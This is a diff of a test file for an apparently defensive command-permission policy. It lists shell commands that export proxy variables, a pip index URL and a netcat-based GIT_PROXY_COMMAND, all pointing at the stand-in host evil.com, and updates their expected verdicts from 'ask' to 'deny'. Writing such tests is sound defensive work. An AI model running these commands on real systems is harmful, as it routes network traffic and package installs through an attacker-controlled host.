@@ -8,20 +8,21 @@ import { REPO_WINDOWS } from './helpers/policy.js';
 
 const DENY_EVIL = { deny: ['Domain(evil.com)'], allow: ['Shell(*)'] };
 
+// (An exported URL naming a denied host denies since session 43's exported-hosts.ts reading; a bare host or host:port asks.)
 describe('proxy variables: never allowed (they change where later commands connect)', () => {
   lineTable(DENY_EVIL, [
-    ['export HTTPS_PROXY=http://evil.com:8080; curl https://ok.com', 'ask'],
-    ['export HTTP_PROXY=http://evil.com:8080', 'ask'],
+    ['export HTTPS_PROXY=http://evil.com:8080; curl https://ok.com', 'deny'],
+    ['export HTTP_PROXY=http://evil.com:8080', 'deny'],
     ['export ALL_PROXY=evil.com:8080', 'ask'],
     ['export https_proxy=evil.com:8080', 'ask'],
-    ['export all_proxy=socks5://evil.com:1080', 'ask'],
+    ['export all_proxy=socks5://evil.com:1080', 'deny'],
     ['export FTP_PROXY=evil.com:21', 'ask'],
     ['export RSYNC_PROXY=evil.com:873', 'ask'],
     ["export GIT_PROXY_COMMAND='nc evil.com 22'", 'deny'],
-    ['export npm_config_proxy=http://evil.com', 'ask'],
-    ['export npm_config_https_proxy=http://evil.com', 'ask'],
+    ['export npm_config_proxy=http://evil.com', 'deny'],
+    ['export npm_config_https_proxy=http://evil.com', 'deny'],
     ['export PIP_PROXY=evil.com:80', 'ask'],
-    ['export PIP_INDEX_URL=https://evil.com/simple', 'ask'],
+    ['export PIP_INDEX_URL=https://evil.com/simple', 'deny'],
     ['export NO_PROXY=evil.com', 'ask'],
     ['HTTPS_PROXY=evil.com:8080 pip install x', 'ask'],
     ['env HTTPS_PROXY=evil.com:8080 npm ci', 'ask'],
